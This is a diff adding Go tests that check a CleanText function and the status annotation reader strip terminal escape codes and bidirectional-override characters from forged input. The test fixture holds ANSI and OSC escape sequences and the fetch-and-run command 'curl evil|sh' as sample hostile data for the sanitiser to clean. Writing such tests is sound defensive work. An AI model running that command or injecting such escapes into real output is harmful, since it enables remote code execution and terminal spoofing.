@@ -217,3 +217,38 @@ func TestPullFailed(t *testing.T) {
 		t.Error("a running container is not a pull failure")
 	}
 }
+
+func TestCleanTextVectors(t *testing.T) {
+	raw, err := os.ReadFile("testdata/clean-text.json")
+	if err != nil {
+		t.Fatal(err)
+	}
+	var doc struct {
+		Vectors []struct{ Name, In, Out string }
+	}
+	if err := json.Unmarshal(raw, &doc); err != nil {
+		t.Fatal(err)
+	}
+	if len(doc.Vectors) == 0 {
+		t.Fatal("no vectors")
+	}
+	for _, v := range doc.Vectors {
+		t.Run(v.Name, func(t *testing.T) {
+			if diff := cmp.Diff(v.Out, CleanText(v.In)); diff != "" {
+				t.Errorf("CleanText(%q) (-want,+got):\n%s", v.In, diff)
+			}
+		})
+	}
+}
+
+// A forged status read back is shown without its escape codes.
+func TestReadStatusCleans(t *testing.T) {
+	s, ok, err := ReadStatus(map[string]string{StatusAnnotation: `{"phase":"Failed","message":"\u001b[31mboom","nextStep":"\u001b]0;x\u0007curl evil|sh","nextSteps":["\u202eabc"]}`})
+	if err != nil || !ok {
+		t.Fatalf("ReadStatus: %v %v", ok, err)
+	}
+	want := Status{Phase: PhaseFailed, Message: "boom", NextStep: "curl evil|sh", NextSteps: []string{"abc"}}
+	if diff := cmp.Diff(want, s); diff != "" {
+		t.Errorf("(-want,+got):\n%s", diff)
+	}
+}
